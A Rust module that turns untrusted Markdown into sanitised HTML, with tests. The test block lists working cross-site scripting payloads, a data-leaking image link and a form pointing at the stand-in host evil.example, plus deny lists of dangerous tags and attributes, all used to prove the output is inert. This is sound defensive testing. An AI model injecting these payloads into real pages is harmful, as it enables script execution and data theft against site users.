//! Markdown of people and models turned into HTML that is safe to put into a page. Nothing else makes HTML from untrusted text.
//!
//! Two walls stand behind each other: raw HTML in the source becomes plain text before it is rendered, and what is
//! rendered passes a sanitiser that knows only the few tags and attributes Markdown needs. Images are never loaded,
//! because an address in an answer would tell a stranger that it was read; they become links.

mod highlight;
mod live;
mod safe;

use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};

pub(crate) use live::LiveMarkdown;

/// HTML that passed the sanitiser. Templates print it as it is.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct SafeHtml(String);

impl SafeHtml {
    /// Whether nothing would be shown.
    pub(crate) fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

impl std::fmt::Display for SafeHtml {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl askama::filters::HtmlSafe for SafeHtml {}

/// The dialect: CommonMark with tables, strike-through and task lists. No footnotes, no mathematics, no raw HTML.
fn dialect() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS
}

/// Renders a whole text. `copy_label` is what the button of a code block says, in the reader's language.
pub(crate) fn render(text: &str, copy_label: &str) -> SafeHtml {
    let events = Parser::new_ext(text, dialect());
    let mut out = String::with_capacity(text.len() * 2);
    html::push_html(&mut out, Calm::new(events, copy_label));
    SafeHtml(safe::clean(&out))
}

/// Rewrites the event stream: raw HTML to text, images to links, code blocks with a heading and a copy button.
struct Calm<'l, I> {
    inner: I,
    copy_label: &'l str,
    in_image: u32,
}

impl<'l, I> Calm<'l, I> {
    fn new(inner: I, copy_label: &'l str) -> Self {
        Self { inner, copy_label, in_image: 0 }
    }
}

impl<'a, I: Iterator<Item = Event<'a>>> Calm<'_, I> {
    /// The text of the code block that has just begun; it comes line by line.
    fn code(&mut self) -> String {
        let mut code = String::new();
        for event in self.inner.by_ref() {
            match event {
                Event::Text(text) => code.push_str(&text),
                Event::End(TagEnd::CodeBlock) => break,
                _ => {}
            }
        }
        code
    }
}

impl<'a, I: Iterator<Item = Event<'a>>> Iterator for Calm<'_, I> {
    type Item = Event<'a>;

    fn next(&mut self) -> Option<Event<'a>> {
        Some(match self.inner.next()? {
            Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
            Event::Start(Tag::HtmlBlock) => Event::Start(Tag::Paragraph),
            Event::End(TagEnd::HtmlBlock) => Event::End(TagEnd::Paragraph),
            Event::Start(Tag::Image { link_type, dest_url, id, .. }) => {
                self.in_image += 1;
                // A link within a link is not HTML; only the outermost image opens one.
                if self.in_image > 1 {
                    return Some(Event::Text(CowStr::Borrowed("")));
                }
                Event::Start(Tag::Link { link_type, dest_url, title: CowStr::Borrowed(""), id })
            }
            Event::End(TagEnd::Image) => {
                self.in_image = self.in_image.saturating_sub(1);
                if self.in_image > 0 {
                    return Some(Event::Text(CowStr::Borrowed("")));
                }
                Event::End(TagEnd::Link)
            }
            Event::Start(Tag::CodeBlock(kind)) => {
                let language = match &kind {
                    CodeBlockKind::Fenced(info) => info.split([' ', ',', '{']).next().unwrap_or_default(),
                    CodeBlockKind::Indented => "",
                };
                Event::Html(CowStr::from(code_block(language, &self.code(), self.copy_label)))
            }
            other => other,
        })
    }
}

/// A code block with its heading and its button.
fn code_block(language: &str, code: &str, copy_label: &str) -> String {
    format!(
        "<div class=\"code\"><div class=\"code-head\"><span>{}</span><button class=\"copy-code\" type=\"button\">{}</button></div><pre><code>{}</code></pre></div>\n",
        escape(language),
        escape(copy_label),
        highlight::highlight(language, code)
    )
}

fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for character in text.chars() {
        match character {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            other => out.push(other),
        }
    }
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod tests {
    use super::*;

    fn html(text: &str) -> String {
        render(text, "Copy").to_string()
    }

    /// Every attack must end as text or vanish: no tag, attribute or address that a browser would act on survives.
    #[test]
    fn attacks_are_inert() {
        let attacks = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "[click](  JaVaScRiPt:alert(1))",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "<button hx-get=\"/account\" hx-trigger=\"load\">x</button>",
            "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
            "![steal](https://evil.example/?q=secret)",
            "[x](https://a.example/\"onmouseover=\"alert(1))",
            "```\"><script>alert(1)</script>\ncode </code></pre><script>alert(2)</script>\n```",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<hx-partial hx-target=\"body\"><form action=\"https://evil.example\"></form></hx-partial>",
            "| a |\n|---|\n| <style>*{display:none}</style> |",
            "<math><mtext></math><a href=\"vbscript:x\">x</a>",
            "`<img src=x onerror=alert(1)>`",
            "<https://ok.example/<script>alert(1)</script>>",
            "- [ ] <input onfocus=alert(1) autofocus>",
        ];
        for attack in attacks {
            let out = html(attack);
            let reparsed = safe::clean(&out);
            assert_eq!(reparsed, out, "a second pass found something to remove in {attack}");
            let lower = out.to_lowercase();
            for forbidden in ["<script", "<img", "<svg", "<iframe", "<style", "<form", "<hx-", "<math"] {
                assert!(!lower.contains(forbidden), "{attack} left {forbidden}: {out}");
            }
            for tag in out.split('<').skip(1).map(|rest| rest.split('>').next().unwrap().to_lowercase()) {
                for forbidden in [
                    " on",
                    " hx-",
                    " style",
                    " srcdoc",
                    " autofocus",
                    " id=",
                    "=\"javascript",
                    "=\"data",
                    "=\"vbscript",
                ] {
                    assert!(!tag.contains(forbidden), "{attack} left an attribute{forbidden} in <{tag}>");
                }
            }
        }
    }

    #[test]
    fn images_become_links_that_are_only_followed_by_a_click() {
        let out = html("![a *cat*](https://example.org/cat.png)");
        assert!(out.contains("<a href=\"https://example.org/cat.png\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">a <em>cat</em></a>"), "{out}");
    }

    #[test]
    fn code_blocks_carry_their_language_and_a_copy_button() {
        insta::assert_snapshot!(html("Here:\n\n```rust\nfn main() { println!(\"<hi>\"); }\n```\n\nand `x < y`."), @r#"
        <p>Here:</p>
        <div class="code"><div class="code-head"><span>rust</span><button class="copy-code" type="button">Copy</button></div><pre><code><span class="k">fn</span> main() { println!(<span class="s">"&lt;hi&gt;"</span>); }
        </code></pre></div>
        <p>and <code>x &lt; y</code>.</p>
        "#);
    }

    #[test]
    fn tables_keep_their_alignment_without_inline_styles() {
        let out = html("| a | b | c |\n|---|--:|:-:|\n| 1 | 2 | 3 |");
        assert!(out.contains("<td class=\"right\">2</td>") && out.contains("<td class=\"centre\">3</td>"), "{out}");
        assert!(!out.contains("style="), "{out}");
    }

    #[test]
    fn raw_html_is_shown_as_the_text_it_is() {
        assert!(html("<b>bold</b>").contains("&lt;b&gt;bold&lt;/b&gt;"));
    }
}
